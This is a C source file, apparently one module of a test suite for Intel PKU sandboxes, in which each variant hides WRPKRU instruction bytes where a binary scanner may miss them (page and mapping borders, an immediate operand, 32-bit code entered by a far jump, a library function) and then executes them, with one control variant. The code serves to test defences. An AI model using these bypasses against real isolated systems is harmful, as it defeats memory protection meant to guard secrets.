/* A5: WRPKRU where scanners have missed it. The code is mapped before the policy is
 * applied, as that of any library is. Every clause is a place: the first byte of a
 * mapping; right behind another one and a false start; across a page border; across the
 * border of two mappings; inside an immediate operand; in 32-bit code behind a far branch;
 * in a number that a loaded library's function returns. nothing-hidden is code at the
 * same place without any: it is let through, so that what refuses the others is the
 * scanner.
 *
 * Source: [PKU Pitfalls], [ERIM] (whose scanner stops at offset 0).
 */
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "attack.h"
#include "machinecode.h"

#define PAGES 2
#define CODE_BYTES (PAGES * PAGE_BYTES)
#define RET "\xc3"
#define FUNCTION_BYTES 16

static unsigned char *code; /* CODE_BYTES, executable after place() */
static size_t entry;

static void place(const char *bytes, size_t count, size_t at, size_t entry_at) {
    code = mmap(NULL, CODE_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (code == MAP_FAILED) return;
    memset(code, 0xcc, CODE_BYTES);
    memcpy(code + at, bytes, count);
    entry = entry_at;
    (void)mprotect(code, CODE_BYTES, PROT_READ | PROT_EXEC);
}
#define PLACE(bytes, at, entry_at) place(bytes, sizeof(bytes) - 1, at, entry_at)

static void run(void) {
    machinecode_call_zeroed(code + entry);
    attack_read();
}

static void offset_0(void) { PLACE(WRPKRU_BYTES RET, 0, 0); }
static void adjacent(void) { PLACE(WRPKRU_BYTES "\x0f\x01" WRPKRU_BYTES RET, 64, 69); }
static void across_pages(void) { PLACE(WRPKRU_BYTES RET, PAGE_BYTES - 1, PAGE_BYTES - 1); }
/* mov eax, 0xc3ef010f */
static void immediate(void) { PLACE("\xb8" WRPKRU_BYTES RET, 64, 65); }

/* xor eax, eax */
static void nothing_hidden(void) { PLACE("\x31\xc0" RET, 64, 64); }

/* The C compiler's own text: libraries/a5_scanner.c. */
static void in_a_library(void) {
    const char *path = getenv("ATTACK_LIBRARY");
    void *library = path ? dlopen(path, RTLD_NOW) : NULL;
    void *function = library ? dlsym(library, "number") : NULL;
    if (function) code = (unsigned char *)machinecode_find(function, FUNCTION_BYTES, WRPKRU_BYTES, 3);
}

static void run_in_library(void) {
    TRY("dlopen", code ? 0 : -1);
    run();
}

/* The second page comes from a file: the kernel keeps two mappings. */
static void across_mappings(void) {
    static const unsigned char rest[] = {0x01, 0xef, 0xc3};
    int fd = memfd_create("second", 0);
    if (fd < 0 || ftruncate(fd, PAGE_BYTES) || pwrite(fd, rest, sizeof rest, 0) != sizeof rest) return;
    PLACE("\x0f", PAGE_BYTES - 1, PAGE_BYTES - 1);
    (void)mmap(code + PAGE_BYTES, PAGE_BYTES, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 0);
    close(fd);
}

/* Compatibility mode: entered by a far jump to the 32-bit code segment, left by
 * another, without a stack meanwhile. (A far call does the same and pushes; older QEMU
 * pushes with the kernel's rights, and the guest dies of SMAP.) */
#define LOW 0x31000000u
#define LOW_BACK (LOW + 0x40)
#define CODE_32 0x23

static void far_call(void) {
    static const unsigned char to_64[] = {
        0x31, 0xc9, 0x31, 0xd2, 0x31, 0xc0,      /* xor ecx, edx, eax */
        0x0f, 0x01, 0xef,                        /* wrpkru */
        0xea, LOW_BACK & 0xff, LOW_BACK >> 8 & 0xff, LOW_BACK >> 16 & 0xff, LOW_BACK >> 24, 0x33, 0, /* ljmp 0x33:back */
    };
    static const unsigned char jump_r11[] = {0x41, 0xff, 0xe3};
    unsigned char *low = mmap((void *)(uintptr_t)LOW, CODE_BYTES, PROT_READ | PROT_WRITE,
                              MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (low == MAP_FAILED) return;
    memcpy(low, to_64, sizeof to_64);
    memcpy(low + (LOW_BACK - LOW), jump_r11, sizeof jump_r11);
    (void)mprotect(low, CODE_BYTES, PROT_READ | PROT_EXEC);
}

static void run_far(void) {
    static unsigned long kept_rsp;
    static const struct __attribute__((packed)) { uint32_t offset; uint16_t segment; } to_32 = {LOW, CODE_32};
    __asm__ volatile("push %%rbp\n\tpush %%rbx\n\tmov %%rsp, %0\n\tlea 1f(%%rip), %%r11\n\tljmpl *%1\n"
                     "1:\tmov %0, %%rsp\n\tpop %%rbx\n\tpop %%rbp"
                     : "+m"(kept_rsp)
                     : "m"(to_32)
                     : "memory", "cc", "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14",
                       "r15");
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "offset-0", .prepare = offset_0, .attack = run},
    {.variant = "adjacent", .prepare = adjacent, .attack = run},
    {.variant = "across-pages", .prepare = across_pages, .attack = run},
    {.variant = "across-mappings", .prepare = across_mappings, .attack = run},
    {.variant = "immediate", .prepare = immediate, .attack = run},
    {.variant = "far-call", .prepare = far_call, .attack = run_far},
    {.variant = "library", .prepare = in_a_library, .attack = run_in_library},
    {.variant = "nothing-hidden", .prepare = nothing_hidden, .attack = run, .flags = ATTACK_CONTROL},
    {0},
};
